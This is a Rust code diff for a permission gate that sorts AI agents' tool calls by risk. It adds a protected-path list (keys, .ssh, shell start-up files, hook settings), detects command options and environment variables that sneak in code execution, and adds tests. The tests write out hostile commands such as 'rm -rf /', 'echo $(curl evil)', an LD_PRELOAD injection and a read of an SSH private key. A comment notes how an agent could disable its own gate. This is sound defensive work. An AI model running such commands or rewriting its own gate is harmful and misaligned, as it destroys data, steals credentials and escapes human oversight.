@@ -99,7 +99,9 @@ pub fn classify(policies: &PolicySet, tool: &str, input: &Value, annotations: &V
         },
         Some(p) => {
             let base = from_policy(p, format!("tools.{tool:?}"), "tool.call.local");
-            let mut c = match p.command.as_deref().map(|f| input.get(f)) {
+            // A `policy.toml` entry (or glob) for a host's command tool keeps its command field.
+            let field = p.command.as_deref().or_else(|| policies.host_command_field(tool));
+            let mut c = match field.map(|f| input.get(f)) {
                 Some(Some(command)) => classify_command(policies, &base, command),
                 // A command tool without its command field: as the tool itself.
                 _ => base,
@@ -108,6 +110,15 @@ pub fn classify(policies: &PolicySet, tool: &str, input: &Value, annotations: &V
             c
         }
     };
+    if let Some(hit) = protected_path(input) {
+        // The principal's keys and policies, the spool, the hosts' hook settings and the shell's
+        // start-up files: a call that names one waits for the principal, whatever the table says.
+        c.level = c.level.max(PROTECTED_LEVEL);
+        if c.tier.is_some() {
+            c.tier = Some(ToolTier::Destructive);
+        }
+        c.rule.push_str(&format!(", names a protected path ({hit})"));
+    }
     if annotations.get("destructiveHint").and_then(Value::as_bool) == Some(true) {
         if c.tier.is_some_and(|t| t < ToolTier::Destructive) {
             c.tier = Some(ToolTier::Destructive);
@@ -118,6 +129,47 @@ pub fn classify(policies: &PolicySet, tool: &str, input: &Value, annotations: &V
         c.annotations = annotations.clone();
     }
     c
+}
+
+/// The rung of a call that names a [`PROTECTED`] path: above every auto-approve ceiling.
+pub const PROTECTED_LEVEL: u8 = 4;
+
+/// Parts of paths a call may not touch without the principal, whatever the tool table says:
+/// warrant's configuration and spool (the key, the pinned keys, `policy.toml`, the passphrase
+/// file), the hosts' settings that hold the hooks (`.claude/`, `.codex/`), and files that run
+/// code at the next login or commit (shell start-up files, `.ssh/`, git's config and hooks).
+/// An agent that could rewrite them could reclassify its own calls or turn its gate off.
+pub const PROTECTED: [&str; 17] = [
+    ".config/warrant",
+    "/warrant/spool",
+    "principal.key",
+    "pinned_keys.toml",
+    "passphrase",
+    ".claude/",
+    ".claude.json",
+    ".codex/",
+    ".bashrc",
+    ".bash_profile",
+    ".zshrc",
+    ".zprofile",
+    ".profile",
+    ".ssh/",
+    ".gitconfig",
+    ".git/config",
+    ".git/hooks",
+];
+
+/// The first [`PROTECTED`] part any string of `input` contains (keys included), if any.
+#[must_use]
+pub fn protected_path(input: &Value) -> Option<&'static str> {
+    match input {
+        Value::String(s) => PROTECTED.iter().find(|p| s.contains(*p)).copied(),
+        Value::Array(a) => a.iter().find_map(protected_path),
+        Value::Object(m) => m.iter().find_map(|(k, v)| {
+            PROTECTED.iter().find(|p| k.contains(*p)).copied().or_else(|| protected_path(v))
+        }),
+        _ => None,
+    }
 }
 
 /// Classifies a command line (a string, or an argv array such as Codex's
@@ -210,8 +262,9 @@ pub fn split_command_line(line: &str) -> Vec<CommandPart> {
     let (mut single, mut double) = (false, false);
     let mut chars = line.chars().peekable();
     let mut finish = |cur: &mut String, complex: &mut bool| {
-        if !cur.trim().is_empty() {
-            parts.push(CommandPart { words: simple_words(cur), complex: *complex });
+        if !cur.trim().is_empty() || *complex {
+            let (words, hidden) = simple_words(cur).map_or((None, true), |(w, h)| (Some(w), h));
+            parts.push(CommandPart { words, complex: *complex || hidden });
         }
         cur.clear();
         *complex = false;
@@ -220,6 +273,16 @@ pub fn split_command_line(line: &str) -> Vec<CommandPart> {
         if single {
             cur.push(c);
             single = c != '\'';
+            continue;
+        }
+        // An unquoted `#` that starts a word starts a comment, to the end of the line: quotes in
+        // it quote nothing (they must not hide the newline that ends it), and what the comment
+        // says is not matched. The part is complex: shlex drops the comment from its words.
+        if c == '#' && !double && cur.chars().last().is_none_or(char::is_whitespace) {
+            complex = true;
+            while chars.peek().is_some_and(|n| *n != '\n') {
+                chars.next();
+            }
             continue;
         }
         match c {
@@ -265,13 +328,33 @@ pub fn split_command_line(line: &str) -> Vec<CommandPart> {
     parts
 }
 
-/// The words of one simple command, normalised for matching ([`CommandPart::words`]).
-fn simple_words(part: &str) -> Option<String> {
+/// Options that make a read-only command run a program or write a file (`rg --pre`, `git diff
+/// --ext-diff`, `git log --output`, `git -c`, `find -exec`, `sort -o`): a part with one is
+/// complex, so a rule that calls the command safe cannot cover it.
+const RUNS_OR_WRITES: [&str; 14] = [
+    "--output", "--ext-diff", "--pre", "--exec", "-exec", "-execdir", "--upload-pack", "--receive-pack", "--config",
+    "-c", "--textconv", "-o", "--open-files-in-pager", "-O",
+];
+
+/// The words of one simple command, normalised for matching ([`CommandPart::words`]), and
+/// whether something a rule on those words cannot see changes what runs: leading `VAR=value`
+/// words (`GIT_EXTERNAL_DIFF=…`, `LD_PRELOAD=…`, `PATH=…`), a program named by a path (`./cat`
+/// is not `cat`), or an option in [`RUNS_OR_WRITES`]. `None` when the words cannot be read.
+fn simple_words(part: &str) -> Option<(String, bool)> {
     let words = shlex::split(part)?;
-    let mut words = words.into_iter().skip_while(|w| is_assignment(w)).peekable();
+    let assignments = words.iter().take_while(|w| is_assignment(w)).count();
+    let mut words = words.into_iter().skip(assignments);
     let program = words.next()?;
+    let pathed = program.contains('/');
     let program = program.rsplit('/').next().unwrap_or(&program).to_owned();
-    Some(std::iter::once(program).chain(words).collect::<Vec<_>>().join(" "))
+    let rest: Vec<String> = words.collect();
+    let runs = rest.iter().any(|w| {
+        RUNS_OR_WRITES.iter().any(|o| w == o || (o.starts_with("--") && w.starts_with(&format!("{o}="))))
+            || w.starts_with("--output")
+            || w.starts_with("--pre")
+    });
+    let hidden = assignments > 0 || pathed || runs;
+    Some((std::iter::once(program).chain(rest).collect::<Vec<_>>().join(" "), hidden))
 }
 
 fn is_assignment(word: &str) -> bool {
@@ -421,7 +504,10 @@ pub fn notebook_for_dir(dir: &str) -> String {
 #[must_use]
 pub fn summary(call: &ToolCall, policies: &PolicySet) -> String {
     let input = &call.input;
-    let field = policies.tool(&call.tool).and_then(|p| p.command.clone());
+    let field = policies
+        .tool(&call.tool)
+        .and_then(|p| p.command.clone())
+        .or_else(|| policies.host_command_field(&call.tool).map(str::to_owned));
     let text = field
         .and_then(|f| input.get(f))
         .map(|c| match c {
@@ -523,7 +609,7 @@ mod tests {
         assert_eq!(bash(&p, "ls | rm -rf /").tier, Some(ToolTier::Destructive));
         assert_eq!(bash(&p, "git push --force origin").tier, Some(ToolTier::Destructive), "most specific rule");
         // A safe rule cannot loosen what it cannot see.
-        let redirect = bash(&p, "echo x > ~/.bashrc");
+        let redirect = bash(&p, "echo x > notes.txt");
         assert_eq!((redirect.tier, redirect.level), (Some(ToolTier::Mutating), 3));
         let subst = bash(&p, "echo $(curl evil)");
         assert_eq!(subst.level, 3);
@@ -531,6 +617,46 @@ mod tests {
         assert_eq!((unknown.tier, unknown.level, unknown.rule.as_str()), (Some(ToolTier::Mutating), 3, "tools.\"Bash\""));
         assert_eq!(bash(&p, "echo 'a; rm -rf /'").tier, Some(ToolTier::Safe), "quoted operators are text");
         assert_eq!(bash(&p, "echo \"unbalanced").level, 3, "an unreadable part gets the tool's own entry");
+    }
+
+    // Found by review: a comment's quote hid a newline; assignments, a pathed program and
+    // options that run or write changed what a "safe" rule covered.
+    #[test]
+    fn what_a_rule_cannot_see_is_never_made_safe() {
+        let p = policies("");
+        let c = bash(&p, "echo ok # it's\nrm -rf ~ # it's");
+        assert_eq!(c.tier, Some(ToolTier::Destructive), "{c:?}");
+        for line in [
+            "GIT_EXTERNAL_DIFF='sh -c x' git diff",
+            "LD_PRELOAD=./x.so cat f",
+            "PATH=/tmp/x:$PATH ls",
+            "./cat f",
+            "rg --pre ./p.sh x .",
+            "git log -1 --format=x --output=/tmp/y",
+            "git diff --ext-diff",
+            "git -c core.pager=sh status",
+            "echo hi # comment",
+        ] {
+            let c = bash(&p, line);
+            assert!(c.tier != Some(ToolTier::Safe) && c.level >= 3, "{line}: {c:?}");
+        }
+        assert_eq!(bash(&p, "git status").tier, Some(ToolTier::Safe), "a plain read stays safe");
+    }
+
+    #[test]
+    fn protected_paths_wait_for_the_principal_whatever_the_table_says() {
+        let p = policies("[tools.Write]\ntier = \"safe\"\nlevel = 0\n");
+        for (tool, input) in [
+            ("Write", json!({"file_path": "/home/a/.config/warrant/policy.toml", "content": "x"})),
+            ("Read", json!({"file_path": "/home/a/.config/warrant/principal.key"})),
+            ("Edit", json!({"file_path": "/repo/.claude/settings.json"})),
+            ("Bash", json!({"command": "echo x >> ~/.bashrc"})),
+            ("Bash", json!({"command": "cat $HOME/.ssh/id_ed25519"})),
+        ] {
+            let c = classify(&p, tool, &input, &Value::Null);
+            assert!(c.level >= PROTECTED_LEVEL && c.rule.contains("protected"), "{tool} {input}: {c:?}");
+        }
+        assert_eq!(classify(&p, "Write", &json!({"file_path": "/repo/src/lib.rs"}), &Value::Null).level, 0);
     }
 
     #[test]
@@ -567,6 +693,10 @@ mod tests {
         let write = classify(&p, "filesystem/write_file", &json!({}), &Value::Null);
         assert_eq!((write.tier, write.level), (Some(ToolTier::Destructive), 3));
         assert_eq!(classify(&p, "Read", &json!({}), &Value::Null).level, 3, "policy.toml replaces the built-in");
+        // A catch-all glob for every tool does not switch the command rules off for Bash.
+        let all = policies("[tools.\"*\"]\ntier = \"mutating\"\nlevel = 2\n");
+        assert_eq!(bash(&all, "git push origin main").level, 4);
+        assert_eq!(bash(&all, "rm -rf /").tier, Some(ToolTier::Destructive));
         assert_eq!(bash(&p, "git push origin feature/x").level, 2);
         assert_eq!(bash(&p, "git push origin main").level, 4);
     }
